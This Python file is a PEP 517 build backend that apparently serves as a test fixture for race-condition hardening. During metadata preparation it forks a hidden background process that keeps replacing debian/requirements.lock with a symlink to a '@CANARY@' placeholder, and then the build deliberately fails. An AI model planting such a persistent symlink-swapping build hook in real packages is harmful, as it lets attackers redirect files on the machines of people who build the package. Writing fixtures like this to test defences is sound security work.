"""A build system that stays: it swaps debian/requirements.lock for a link."""
import os
import time


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(directory, config_settings=None):
    info = os.path.join(directory, "race-1.0.dist-info")
    os.mkdir(info)
    with open(os.path.join(info, "METADATA"), "w") as out:
        out.write("Metadata-Version: 2.1\nName: race\nVersion: 1.0\n")
    with open(os.path.join(info, "WHEEL"), "w") as out:
        out.write("Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        end = time.time() + 4
        while time.time() < end:
            try:
                if not os.path.islink("debian/requirements.lock") and os.path.exists("debian/requirements.lock"):
                    os.symlink("@CANARY@", "debian/link")
                    os.rename("debian/link", "debian/requirements.lock")
            except OSError:
                pass
        os._exit(0)
    return "race-1.0.dist-info"


def build_wheel(directory, config_settings=None, metadata_directory=None):
    raise SystemExit(1)
